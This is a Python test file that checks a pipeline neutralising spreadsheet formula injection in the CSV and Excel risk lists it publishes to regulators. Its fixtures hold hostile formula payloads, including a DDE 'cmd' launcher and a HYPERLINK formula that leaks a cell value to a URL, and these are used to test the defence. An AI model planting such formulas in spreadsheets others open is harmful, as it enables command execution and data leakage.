"""No formula injection in what regulators open: every text cell of every CSV and Excel file is
neutralised (OWASP: a leading apostrophe; in Excel also an explicit string cell), numbers stay
numbers, Parquet keeps the original, and a returned workbook still matches what was published."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from pathlib import Path

import polars as pl
import pytest
from openpyxl import load_workbook

from data_contracts.feedback import load_feedback
from pipelines import publish_io
from pipelines.feedback.workbook import read_returned
from pipelines.spreadsheet_safety import (
    csv_text,
    needs_quote,
    neutralise_formulas,
    neutralise_text,
    restore_text,
    write_csv,
    xlsx_text,
)
from tests.pipelines.feedback.published import Published, fill, publish_one
from tests.pipelines.publish_world import FIRMS_PER_INDUSTRY, uscc_for, world_config

HYPERLINK = '=HYPERLINK("http://x/?"&B2,"点击")'
# One planted name per formula prefix OWASP lists, and the HYPERLINK.
PLANTED = {
    "equals": HYPERLINK,
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3 苏州锦程融资租赁有限公司",
    "at": "@SUM(1+1) 恒达融资租赁有限公司",
    "tab": "\t=1+1 瑞丰融资租赁有限公司",
    "carriage_return": "\r=1+1 鼎新融资租赁有限公司",
}


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_each_formula_prefix_gets_a_leading_apostrophe(prefix):
    value = f"{prefix}cmd|' /C calc'!A0"
    assert needs_quote(value)
    assert neutralise_text(value) == "'" + value
    assert restore_text(neutralise_text(value)) == value


@pytest.mark.parametrize(
    "value", ["苏州锦程有限公司", "a=b", " =1+1", "", "'plain", "-12.5", "+3", "-1e-4", "-"]
)
def test_text_that_cannot_start_a_formula_and_numbers_as_text_are_left_alone(value):
    if value == "-":
        assert neutralise_text(value) == "'-"  # a lone sign is not a number
        return
    assert neutralise_text(value) == value
    assert restore_text(value) == value


def test_neutralising_twice_changes_nothing_and_restoring_reads_through_one_apostrophe():
    once = neutralise_text("=1+1")
    assert neutralise_text(once) == once == "'=1+1"
    assert restore_text(once) == "=1+1" and restore_text(42) == 42 and restore_text(None) is None


def test_a_number_with_something_after_it_is_still_a_formula():
    assert neutralise_text("-1+1") == "'-1+1"
    assert neutralise_text("-5\n=cmd()") == "'-5\n=cmd()"


def test_frames_neutralise_text_cells_and_headers_but_never_numbers():
    frame = pl.DataFrame(
        {
            "name": [HYPERLINK, "正常企业", None, "-7"],
            "amount": [-3.5, 2.0, None, -1e6],
            "count": [-1, 0, 1, 2],
            "=header": ["@x", "y", "z", "\tw"],
        }
    )
    safe = neutralise_formulas(frame)
    assert safe.columns == ["name", "amount", "count", "'=header"]
    assert safe["name"].to_list() == ["'" + HYPERLINK, "正常企业", None, "-7"]
    assert safe["'=header"].to_list() == ["'@x", "y", "z", "'\tw"]
    assert safe["amount"].equals(frame["amount"]) and safe["count"].equals(frame["count"])
    assert safe.schema["amount"] == pl.Float64 and safe.schema["count"] == pl.Int64
    # The expression and the per-value function agree.
    assert [neutralise_text(v) for v in ("=a", "-2", "-2x", "@", "'=b")] == neutralise_formulas(
        pl.DataFrame({"v": ["=a", "-2", "-2x", "@", "'=b"]})
    )["v"].to_list()


def test_csv_cells_are_neutralised_and_negative_numbers_stay_numbers(tmp_path):
    frame = pl.DataFrame({"name": list(PLANTED.values()), "change": [-1, -2, 0, 3, -4, 5]})
    path = write_csv(frame, tmp_path / "list.csv")
    text = path.read_bytes().decode("utf-8-sig")  # not read_text: keep the CR as written
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["name", "change"]
    assert [r[0] for r in rows[1:]] == ["'" + v for v in PLANTED.values()]
    assert [r[1] for r in rows[1:]] == ["-1", "-2", "0", "3", "-4", "5"]
    assert csv_text(frame).splitlines()[1].startswith("\"'=HYPERLINK")


def test_xlsx_text_replaces_characters_xml_cannot_hold():
    assert xlsx_text("苏州\x00有限\x1f公司\x0b") == "苏州\ufffd有限\ufffd公司\ufffd"
    assert xlsx_text("=x\x01") == "'=x\ufffd"
    assert xlsx_text("line\nbreak\ttab") == "line\nbreak\ttab"


def _sheet_xml(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as archive:
        return {
            name: archive.read(name).decode("utf-8")
            for name in archive.namelist()
            if name.startswith("xl/worksheets/sheet")
        }


def test_a_workbook_holds_no_formula_only_string_cells_and_numbers(tmp_path):
    frame = pl.DataFrame(
        {"名称": [*PLANTED.values(), "控制\x07字符"], "变化": [-1, -2, 0, 3, -4, 5, -6]}
    )
    path = publish_io.write_xlsx(
        [publish_io.Sheet("名单", frame, note="=note(1)")],
        tmp_path / "a.xlsx",
        dt.datetime(2026, 1, 1),
    )
    (xml,) = _sheet_xml(path).values()
    assert "<f>" not in xml and "<f " not in xml
    sheet = load_workbook(path)["名单"]
    assert sheet["A1"].value == "'=note(1)"
    names = [sheet.cell(row, 1) for row in range(3, 10)]
    assert [c.data_type for c in names] == ["s"] * 7
    assert [c.value for c in names[:-1]] == [
        "'" + v.replace("\r", "\n")
        for v in PLANTED.values()  # XML reads CR back as LF
    ]
    assert names[-1].value == "控制\ufffd字符"
    changes = [sheet.cell(row, 2) for row in range(3, 10)]
    assert [c.value for c in changes] == [-1, -2, 0, 3, -4, 5, -6]
    assert {c.data_type for c in changes} == {"n"}


# ---------------------------------------------------------------- planted in the lake


@pytest.fixture(scope="module")
def planted(tmp_path_factory) -> tuple[Published, dict[str, str]]:
    """The tiny publish world with every finance firm named like a formula, one list published."""
    finance = FIRMS_PER_INDUSTRY["finance"]
    values = list(PLANTED.values())
    names = {uscc_for(i): f"{values[i % len(values)]}{i:02d}" for i in range(finance)}
    return publish_one(tmp_path_factory.mktemp("planted"), names=names), names


def test_the_published_workbook_has_no_formula_for_a_planted_name(planted):
    published, names = planted
    xml = _sheet_xml(published.workbook)
    assert xml and not any(re.search(r"<f[ >]", text) for text in xml.values())
    sheet = load_workbook(published.workbook)["风险名单"]
    headers = [c.value for c in sheet[1]]
    column = headers.index("企业名称") + 1
    listed = {
        sheet.cell(row, 2).value: sheet.cell(row, column) for row in range(2, sheet.max_row + 1)
    }
    assert len(listed) == 5
    for uscc, cell in listed.items():
        assert cell.data_type == "s"
        assert cell.value == "'" + names[uscc].replace("\r", "\n")
    score = sheet.cell(2, headers.index("风险评分") + 1)
    assert isinstance(score.value, float) and score.data_type == "n"


def test_the_published_csv_neutralises_planted_names_and_parquet_keeps_them(planted):
    published, names = planted
    text = (published.folder / publish_io.RISK_LIST_CSV).read_bytes().decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == 5
    for row in rows:
        assert row["企业名称"] == "'" + names[row["统一社会信用代码"]]
        assert row["排名"].isdigit() and not row["风险评分"].startswith("'")
    parquet = pl.read_parquet(published.folder / publish_io.RISK_LIST_PARQUET)
    assert {u: n for u, n in parquet.select("uscc", "name").iter_rows()} == {
        u: names[u] for u in parquet["uscc"]
    }


def _read(published: Published, path: Path):
    return read_returned(
        path,
        contract=load_feedback(),
        specs=dict(world_config().industries),
        publish_root=published.world.settings.publish,
        today=dt.date(2026, 11, 27),
    )


def test_a_returned_workbook_with_planted_names_is_read_back(planted, tmp_path):
    published, _ = planted
    untouched = _read(published, published.returned_copy(tmp_path / "untouched.xlsx"))
    assert (untouched.firms, untouched.rows) == (5, [])

    filled = fill(
        published.returned_copy(tmp_path / "filled.xlsx"),
        {"M2": dt.datetime(2026, 11, 18), "N2": "定向检查", "O2": "风险属实"},
    )
    [report] = _read(published, filled).rows
    assert (report.row, report.outcome, report.method) == (2, "risk_confirmed", "targeted")


def test_a_return_whose_application_dropped_the_apostrophe_still_matches(planted, tmp_path):
    """An application may keep a neutralised cell as the text it stands for (``=…``): it is
    still the published value, not an edit."""
    published, _ = planted
    path = published.returned_copy(tmp_path / "resaved.xlsx")
    book = load_workbook(path)
    sheet = book["风险名单"]
    column = [c.value for c in sheet[1]].index("企业名称") + 1
    for row in range(2, sheet.max_row + 1):
        cell = sheet.cell(row, column)
        cell.value = restore_text(cell.value)
        cell.data_type = "s"
    book.save(path)
    assert _read(published, path).firms == 5

    edited = fill(published.returned_copy(tmp_path / "edited.xlsx"), {"C2": "'=改过的名字"})
    with pytest.raises(ValueError, match="published column edited"):
        _read(published, edited)
